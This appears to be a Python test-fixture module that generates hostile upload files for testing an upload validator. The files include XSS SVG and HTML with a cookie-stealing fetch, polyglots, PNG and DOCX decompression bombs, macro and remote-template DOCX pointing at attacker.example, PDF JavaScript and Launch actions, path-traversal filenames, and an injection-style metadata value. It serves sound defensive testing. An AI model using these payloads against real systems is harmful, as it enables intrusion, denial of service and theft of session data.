"""The hostile-input corpus: every file is generated here, in memory, when a test asks for it (no binary blobs in
the repository).

Each kind is a small named generator returning a `Hostile(filename, data, content_type, what)`. Kinds carry tags
that say which upload fields they are aimed at:

    image    sent to the image fields (posters, stills)
    document sent to the document fields (script, entry form, rights letter) and objection evidence
    name     a valid file under a hostile *name*: accepted, but the stored and shown names must be safe
    neutral  a valid payload that hides something: accepted only if what is stored no longer carries it

A kind with neither `name` nor `neutral` must be refused wherever it is sent. The tus header cases (malformed
Upload-Metadata, lengths, offsets) are in TUS_CASES at the end; they are kinds too.
"""

import base64
import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>'
HTML_PAGE = b"<!doctype html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"
JS_PAYLOAD = b"alert(document.domain)"


@dataclass(frozen=True)
class Hostile:
    filename: str
    data: bytes
    content_type: str
    what: str


KINDS = {}  # name -> (generator, tags)


def kind(*tags):
    def register(function):
        KINDS[function.__name__] = (functools.cache(function), frozenset(tags))
        return function

    return register


def make(name) -> Hostile:
    return KINDS[name][0]()


def names(*tags, exclude=()):
    """The kinds carrying every tag in `tags` and none in `exclude`, sorted (stable test ids)."""
    wanted, unwanted = set(tags), set(exclude)
    return sorted(name for name, (_gen, have) in KINDS.items() if wanted <= have and not unwanted & have)


# ------------------------------------------------------------------------------------------------ building blocks


def image(size=(1080, 1920), fmt="JPEG", colour=(20, 40, 120)):
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format=fmt)
    return out.getvalue()


def valid_poster():
    """A JPEG that the vertical poster, stills, entry form and rights letter accept (portrait, above minimums)."""
    return image((600, 1000))


def valid_pdf():
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n" \
        b"trailer<</Root 1 0 R>>\n%%EOF\n"


def docx(extra=None, content_types=None):
    """A minimal Word document; `extra` adds or replaces members."""
    members = {
        "[Content_Types].xml": content_types
        or '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>第一场 日 内</w:t></w:r></w:p></w:body></w:document>",
        **(extra or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_of(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def png_chunk(tag, payload):
    return struct.pack(">I", len(payload)) + tag + payload + struct.pack(">I", zlib.crc32(tag + payload))


def png_declaring(width, height, bit_depth=8, colour_type=2, idat=b""):
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def ftyp_mp4(payload=b""):
    """The first box of an MP4 (ftyp) and whatever follows."""
    return struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2" + payload


# ------------------------------------------------------------------------------------------------ polyglots


@kind("image", "document")
def gif_js_polyglot():
    # Valid GIF header and valid JavaScript at once: `GIF89a=...` is an assignment, `/*` hides the binary.
    data = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;*/=1;" + JS_PAYLOAD
    return Hostile("poster.jpg", data, "image/jpeg", "GIF/JavaScript polyglot named .jpg")


@kind("document")
def pdf_zip_polyglot():
    # A PDF that is also a ZIP archive (the ZIP's directory at the end, where unzip looks for it).
    payload = zip_of(**{"payload.html": HTML_PAGE.decode(), "filler.bin": "x" * 4096})
    return Hostile("script.pdf", valid_pdf() + payload, "application/pdf", "PDF with a ZIP archive appended")


@kind("image", "document")
def zip_pdf_polyglot():
    data = zip_of(**{"a.pdf": valid_pdf().decode("latin-1"), "index.html": HTML_PAGE.decode()})
    return Hostile("script.docx", data, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   "ZIP (not a Word document) named .docx")


@kind("image", "neutral")
def jpeg_trailing_zip():
    data = valid_poster() + zip_of(**{"evil.html": HTML_PAGE.decode()})
    return Hostile("poster.jpg", data, "image/jpeg", "JPEG with a ZIP archive appended (re-encoding drops it)")


@kind("image", "neutral")
def jpeg_trailing_html():
    return Hostile("poster.jpg", valid_poster() + HTML_PAGE, "image/jpeg", "JPEG with an HTML page appended")


# ------------------------------------------------------------------------------------------------ bombs


@kind("image", "document")
def png_huge_dimensions():
    return Hostile("poster.png", png_declaring(100_000, 100_000), "image/png", "PNG declaring 100000×100000 px")


@kind("image", "document")
def gif_huge_dimensions():
    data = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x00\x00\x00" + b",\x00\x00\x00\x00" \
        + struct.pack("<HH", 65535, 65535) + b"\x00\x02\x02\x44\x01\x00;"
    return Hostile("poster.gif", data, "image/gif", "GIF declaring 65535×65535 px")


@kind("image", "document")
def png_decompression_bomb():
    # 30000×30000 one-bit pixels really are in the data: ~110 MB of zero rows that deflate to ~110 KB.
    width = height = 30_000
    row = b"\x00" * (1 + width // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row * 1000) for _ in range(height // 1000)) + compressor.flush()
    data = png_declaring(width, height, bit_depth=1, colour_type=0, idat=idat)
    return Hostile("poster.png", data, "image/png", "PNG decompression bomb (900 Mpx of 1-bit pixels)")


@kind("document")
def docx_zip_bomb():
    # Members declaring far more unpacked bytes than a script can have (deflated zeros).
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/media/zeros.bin", b"\x00" * (320 * 1024 * 1024))
    return Hostile("script.docx", out.getvalue(), "application/octet-stream", "DOCX unpacking to 320 MB")


# ------------------------------------------------------------------------------------------------ truncated, empty


@kind("image", "document")
def truncated_jpeg():
    data = image((1080, 1920))
    return Hostile("poster.jpg", data[: len(data) // 2], "image/jpeg", "JPEG cut off half-way")


@kind("image", "document")
def truncated_png():
    data = image((1080, 1920), "PNG")
    return Hostile("poster.png", data[: len(data) // 2], "image/png", "PNG cut off half-way")


@kind("document")
def truncated_pdf():
    data = valid_pdf() + b"%" + b"x" * 4096 + b"\n%%EOF\n"
    what = "PDF cut off in its second revision (after the first %%EOF)"
    return Hostile("script.pdf", data[: len(data) // 2], "application/pdf", what)


@kind("document")
def truncated_docx():
    data = docx({"word/media/filler.bin": bytes(range(256)) * 64})
    return Hostile("script.docx", data[: len(data) // 2], "application/octet-stream", "DOCX cut off half-way")


@kind("image", "document")
def truncated_mp4():
    return Hostile("episode.mp4", ftyp_mp4(b"\x00\x00\x10\x00moov"), "video/mp4", "MP4 cut off after its header")


@kind("image", "document")
def zero_byte_jpeg():
    return Hostile("poster.jpg", b"", "image/jpeg", "empty file named .jpg")


@kind("image", "document")
def zero_byte_png():
    return Hostile("poster.png", b"", "image/png", "empty file named .png")


@kind("document")
def zero_byte_pdf():
    return Hostile("script.pdf", b"", "application/pdf", "empty file named .pdf")


@kind("document")
def zero_byte_docx():
    return Hostile("script.docx", b"", "application/octet-stream", "empty file named .docx")


@kind("image", "document")
def zero_byte_mp4():
    return Hostile("episode.mp4", b"", "video/mp4", "empty file named .mp4")


# ------------------------------------------------------------------------------------------------ wrong magic


@kind("image", "document")
def html_named_jpg():
    return Hostile("poster.jpg", HTML_PAGE, "image/jpeg", "HTML page named .jpg")


@kind("image", "document")
def exe_named_pdf():
    data = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 256
    return Hostile("script.pdf", data, "application/pdf", "Windows executable named .pdf")


@kind("image", "document")
def svg_with_script():
    return Hostile("poster.svg", SVG_SCRIPT, "image/svg+xml", "SVG carrying a script")


@kind("image", "document")
def svg_named_png():
    return Hostile("poster.png", SVG_SCRIPT, "image/png", "SVG carrying a script, named .png")


@kind("image", "document")
def html_file():
    return Hostile("index.html", HTML_PAGE, "text/html", "an HTML page")


@kind("image", "document")
def mp4_as_image():
    return Hostile("poster.jpg", ftyp_mp4(b"\x00" * 64), "image/jpeg", "MP4 bytes named .jpg")


@kind("image", "name")
def png_named_jpg():
    # Decided: accepted, because the content decides: stored and served as image/png with a .png name.
    return Hostile("poster.jpg", image((1080, 1920), "PNG"), "image/jpeg", "a real PNG named .jpg")


# ------------------------------------------------------------------------------------------------ active documents


MACRO_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)


@kind("document")
def docm_with_macros():
    data = docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name AutoOpen"},
                content_types=MACRO_CONTENT_TYPES)
    return Hostile("script.docx", data, "application/vnd.ms-word.document.macroEnabled.12",
                   "macro-enabled Word document (docm) named .docx")


@kind("document")
def docx_external_template():
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    data = docx({"word/_rels/settings.xml.rels": rels, "word/settings.xml": "<w:settings/>"})
    return Hostile("script.docx", data, "application/octet-stream",
                   "DOCX loading a remote template (template injection)")


@kind("document")
def docx_external_object():
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'oleObject" Target="\\\\attacker.example\\share\\x.doc" TargetMode="External"/></Relationships>'
    )
    data = docx({"word/_rels/document.xml.rels": rels})
    return Hostile("script.docx", data, "application/octet-stream", "DOCX with an OLE object on a remote share")


@kind("document")
def pdf_with_javascript():
    data = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"3 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return Hostile("script.pdf", data, "application/pdf", "PDF running JavaScript on open (/OpenAction)")


@kind("document")
def pdf_with_escaped_javascript():
    # The same action with its name written in #xx escapes, which a byte search for "/JavaScript" misses.
    data = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert\\(1\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return Hostile("script.pdf", data, "application/pdf", "PDF JavaScript action with #-escaped names")


@kind("document")
def pdf_with_launch():
    data = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return Hostile("script.pdf", data, "application/pdf", "PDF launching a program on open")


# ------------------------------------------------------------------------------------------------ hostile names


@kind("image", "name")
def traversal_name():
    return Hostile("../../etc/passwd.jpg", valid_poster(), "image/jpeg", "path traversal in the name (POSIX)")


@kind("image", "name")
def windows_traversal_name():
    return Hostile("..\\..\\windows\\x.jpg", valid_poster(), "image/jpeg", "path traversal in the name (Windows)")


@kind("image", "name")
def nul_in_name():
    return Hostile("poster.jpg\x00.html", valid_poster(), "image/jpeg", "NUL in the name")


@kind("image", "name")
def rtl_override_name():
    return Hostile("poster\u202egnp.exe.jpg", valid_poster(), "image/jpeg", "right-to-left override in the name")


@kind("image", "name")
def long_name():
    return Hostile("海" * 300 + ".jpg", valid_poster(), "image/jpeg", "a 304-character name")


@kind("image", "name")
def control_characters_name():
    return Hostile("po\rster\n\t<b>.jpg", valid_poster(), "image/jpeg", "control characters and markup in the name")


@kind("document", "name")
def traversal_document_name():
    return Hostile("..\\..\\x.pdf", valid_pdf(), "application/pdf", "Windows path traversal in a PDF's name")


# ------------------------------------------------------------------------------------------------ oversized


def oversized(limit, name="poster.jpg", content_type="image/jpeg"):
    """A JPEG padded (after its end marker) to one byte over `limit`: refused by size before anything else."""
    data = valid_poster()
    return Hostile(name, data + b"\x00" * (limit + 1 - len(data)), content_type, f"{limit + 1} bytes")


# ------------------------------------------------------------------------------------------------ videos


def not_a_video():
    return Hostile("第一集.mp4", HTML_PAGE * 200, "video/mp4", "an HTML page uploaded as a video")


def pdf_as_video():
    return Hostile("第一集.mp4", valid_pdf() * 50, "video/mp4", "a PDF uploaded as a video")


def huge_duration_mp4():
    """An MP4 whose movie header declares a 10-year duration and which has no media data."""
    mvhd = struct.pack(">I4sBxxxIIII", 108, b"mvhd", 0, 0, 0, 1000, 315_360_000_000 // 1000) + b"\x00" * 80
    moov = struct.pack(">I4s", 8 + len(mvhd), b"moov") + mvhd
    return Hostile("第一集.mp4", ftyp_mp4(moov), "video/mp4", "MP4 declaring a ten-year duration and no frames")


VIDEO_KINDS = {"not_a_video": not_a_video, "pdf_as_video": pdf_as_video, "huge_duration_mp4": huge_duration_mp4}


# ------------------------------------------------------------------------------------------------ tus headers


def b64(text):
    return base64.b64encode(text.encode()).decode()


def tus_metadata_cases(entry_id):
    """Malformed Upload-Metadata headers: name -> (header, expected status, expected message)."""
    good = f"entry {b64(str(entry_id))},slot {b64('episode-1')}"
    not_utf8 = base64.b64encode(bytes([0xFF, 0xFE])).decode()
    return {
        "bad_base64": (f"entry {b64(str(entry_id))},slot ***not-base64***", 400,
                       "Upload-Metadata values must be base64-encoded UTF-8 text."),
        "not_utf8": (f"entry {b64(str(entry_id))},slot {not_utf8}", 400,
                     "Upload-Metadata values must be base64-encoded UTF-8 text."),
        "missing_entry": (f"slot {b64('episode-1')}", 400, "Upload-Metadata must name the entry and the slot."),
        "missing_slot": (f"entry {b64(str(entry_id))}", 400, "Upload-Metadata must name the entry and the slot."),
        "empty": ("", 400, "Upload-Metadata must name the entry and the slot."),
        "duplicate_key": (f"{good},slot {b64('trailer')}", 400, "Upload-Metadata names a key twice."),
        "too_many_keys": (good + "".join(f",k{n} {b64('v')}" for n in range(20)), 400,
                          "Upload-Metadata has too many keys."),
        "huge_value": (f"{good},filename {b64('x' * 5000)}", 400, "An Upload-Metadata value is too long."),
        "nul_in_value": (f"{good},filename {b64('a.mp4' + chr(0) + '.html')}", 400,
                         "Upload-Metadata values cannot contain NUL characters."),
        "three_parts": (f"{good},filename a b", 400, "Upload-Metadata is malformed."),
        "bad_key": (f"{good},fi/le {b64('x')}", 400, "Upload-Metadata is malformed."),
        "entry_not_a_number": (f"entry {b64('1 OR 1=1')},slot {b64('episode-1')}", 404, "There is no such entry."),
        "unknown_slot": (f"entry {b64(str(entry_id))},slot {b64('../../etc')}", 400,
                         "This entry has no video slot “../../etc”."),
    }


UPLOAD_LENGTH_CASES = {
    # name -> (Upload-Length, expected status, expected message; "%(max)s" is TUS_MAX_SIZE, formatted)
    "negative": ("-1", 400, "Upload-Length must be a whole number of bytes."),
    "not_numeric": ("ten", 400, "Upload-Length must be a whole number of bytes."),
    "decimal": ("10.5", 400, "Upload-Length must be a whole number of bytes."),
    "fullwidth_digits": ("１２３", 400, "Upload-Length must be a whole number of bytes."),
    "missing": ("", 400, "Upload-Length is missing."),
    "huge": ("9" * 40, 413, "The file is larger than the limit of"),
    "zero": ("0", 400, "The file is empty."),
}

UPLOAD_OFFSET_CASES = {
    # name -> (Upload-Offset, expected status)
    "behind": ("0", 409),
    "ahead": ("9", 409),
    "negative": ("-4", 400),
    "not_numeric": ("four", 400),
    "missing": ("", 400),
    "huge": ("9" * 30, 400),
}
